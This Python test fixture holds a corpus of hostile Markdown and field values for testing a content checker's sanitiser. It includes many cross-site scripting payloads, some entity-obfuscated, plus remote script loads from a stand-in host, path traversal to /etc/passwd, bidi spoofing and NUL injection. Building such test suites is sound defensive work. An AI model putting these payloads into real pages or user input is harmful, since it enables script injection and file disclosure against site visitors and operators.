"""A corpus of hostile editors' text: descriptions and field values that try to run a script,
load something from outside, or break out of where they are printed.

Every payload calls ``alert`` (a dialog the browser test listens for) or ``__canary`` (a
function the browser test defines): either firing means a script ran. Hosts are
``evil.example`` (reserved, never resolves).
"""

from __future__ import annotations

#: (name, Markdown description). ``lifelong check`` must report each as ``body:``; drawn
#: with the check skipped, none may run in Chromium.
BODIES: list[tuple[str, str]] = [
    ("attr-list-autofocus", 'A paragraph.\n{:onfocus="__canary(1)" tabindex="1" autofocus}'),
    ("attr-list-inline-click", "Some *x*{onclick=__canary(2)} text."),
    ("attr-list-heading", "# Heading {: onmouseover=__canary(3) }\n\nText."),
    ("md-link-javascript", "[click](javascript:alert(4))"),
    ("md-link-newline-scheme", "[click](java\nscript:alert(5))"),
    ("md-image-javascript", "![pic](javascript:alert(6))"),
    ("md-reference-javascript", "[click][1]\n\n[1]: javascript:alert(7)"),
    ("md-link-data", "[click](data:text/html,<script>alert(8)</script>)"),
    ("autolink-javascript", "<javascript:alert(9)>"),
    ("href-newline-entity", '<a href="java&#10;script:alert(10)">x</a>'),
    ("href-tab-entity", '<a href="jav&#x09;ascript:alert(11)">x</a>'),
    ("href-decimal-entity", '<a href="&#106;avascript:alert(12)">x</a>'),
    ("href-leading-space", '<a href=" javascript:alert(13)">x</a>'),
    ("href-upper-case", '<a href="JAVASCRIPT:alert(14)">x</a>'),
    ("href-colon-entity", '<a href="javascript&colon;alert(15)">x</a>'),
    ("href-control-entity", '<a href="&#1;javascript:alert(16)">x</a>'),
    ("href-vbscript", '<a href="vbscript:msgbox(17)">x</a>'),
    ("href-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxOCk8L3NjcmlwdD4=">'
                         "x</a>"),
    ("script", "<script>alert(19)</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(21)</script>"),
    ("img-onerror", "<img src=x onerror=alert(22)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(23)"/>'),
    ("img-mixed-case", "<IMG SRC=x OnError=alert(24)>"),
    ("img-srcset", '<img src="x.png" srcset="javascript:alert(25)">'),
    ("svg-onload", "<svg onload=alert(26)>"),
    ("svg-script", "<svg><script>alert(27)</script></svg>"),
    ("svg-xlink-newline", '<svg><a xlink:href="java\nscript:alert(28)"><text x="0" y="20">x'
                          "</text></a></svg>"),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(29)"/>'
                     '<text x="0" y="20">x</text></a></svg>'),
    ("svg-animate-values", '<svg><a><animate attributeName="href" values="javascript:'
                           'alert(30)"/><text x="0" y="20">x</text></a></svg>'),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org"
                     "/2000/svg'><image href='1' onerror='alert(31)'/></svg>#x\"/></svg>"),
    ("math-script", "<math><mtext><script>alert(32)</script></mtext></math>"),
    ("iframe-javascript", '<iframe src="javascript:alert(33)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(34)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(35)"></object>'),
    ("embed", '<embed src="javascript:alert(36)">'),
    ("form-action", '<form action="javascript:alert(37)"><button>Go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(38)">x</button>'),
    ("input-autofocus", "<input autofocus onfocus=alert(39)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(40)></select>"),
    ("details-ontoggle", "<details open ontoggle=alert(41)><summary>s</summary>x</details>"),
    ("body-onload", "<body onload=alert(42)>"),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-attribute", '<p style="background:url(https://evil.example/x.png)">x</p>'),
    ("link-stylesheet", '<link rel=stylesheet href="https://evil.example/x.css">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(46)">'),
    ("base-href", '<base href="javascript:alert(47)//">'),
    ("marquee-onstart", "<marquee onstart=alert(48)>x</marquee>"),
    ("video-source", "<video><source onerror=alert(49)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(50)></audio>"),
    ("div-onmouseover", '<div onmouseover="alert(51)">hover</div>'),
    ("a-onclick", '<a href="#" onclick="alert(52)">x</a>'),
    ("comment-breakout", "<div><!-- --><img src=x onerror=alert(53)>--></div>"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(54)>">'),
    ("template-script", "<template><script>alert(55)</script></template>"),
    ("xmp-script", "<xmp><script>alert(56)</script></xmp>"),
    ("isindex", "<isindex action=javascript:alert(57) type=image>"),
    ("table-background", '<table><tr><td background="javascript:alert(58)">x</td></tr>'
                         "</table>"),
    ("md-in-html-onclick", '<div markdown="1" onclick="alert(59)">*x*</div>'),
    ("mailto-onclick", '<a href="mailto:x@example.org" onclick="alert(60)">x</a>'),
    ("object-scriptlet", '<object type="text/x-scriptlet" data="https://evil.example/x">'
                         "</object>"),
    ("portal", '<portal src="https://evil.example/"></portal>'),
    ("frameset-onload", "<frameset onload=alert(63)>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(64)>"),
    ("target-blank", '<a href="https://example.org/" target="_blank">x</a>'),
    ("reserved-id", '<div id="__drawer">x</div>'),
    ("nul-in-body", "text\x00<img src=x onerror=alert(67)>"),
    ("bidi-override", "safe \u202egnp.exe\u202c text"),
    ("link-outside-content", "[passwd](../../../etc/passwd)"),
    ("link-absolute-path", "[passwd](/etc/passwd)"),
    ("link-missing-file", "[file](files/missing.pdf)"),
]

#: (name, field, value) that ``lifelong check`` rejects, with what its message contains.
REJECTED_FIELDS: list[tuple[str, str, object, str]] = [
    ("video-javascript", "video", "javascript:alert(1)", "only http:// and https://"),
    ("video-data", "video", "data:text/html,<script>alert(1)</script>",
     "only http:// and https://"),
    ("video-protocol-relative", "video", "//evil.example/x", "is not a web address"),
    ("cover-file-url", "cover", "file:///etc/passwd", "only http:// and https://"),
    ("cover-outside", "cover", "../../../../etc/passwd", "points outside content/"),
    ("title-nul", "title", "太极\x00拳", "U+0000"),
    ("summary-bidi", "summary", "安全\u202e课程", "U+202E"),
    ("id-dots", "id", "../../etc", "is not a safe id"),
]

#: (name, field, value) that are fine text: ``lifelong check`` accepts them and every page
#: must show them as text, never as markup or script.
ESCAPED_FIELDS: list[tuple[str, str, object]] = [
    ("title-script", "title", "<script>alert(101)</script>"),
    ("title-attribute-breakout", "title", '"><img src=x onerror=alert(102)>'),
    ("title-en-quote", "title_en", "' onmouseover='alert(103)' x='"),
    ("summary-json-breakout", "summary", "</script><script>alert(104)</script>"),
    ("summary-template", "summary", "{{ 7*7 }} {% raw %} ${alert(105)}"),
    ("teacher-img", "teachers", ["<img src=x onerror=alert(106)>"]),
    ("tag-javascript", "tags", ["javascript:alert(107)"]),
    ("provider-entity", "provider", "&lt;script&gt;alert(108)&lt;/script&gt;"),
]
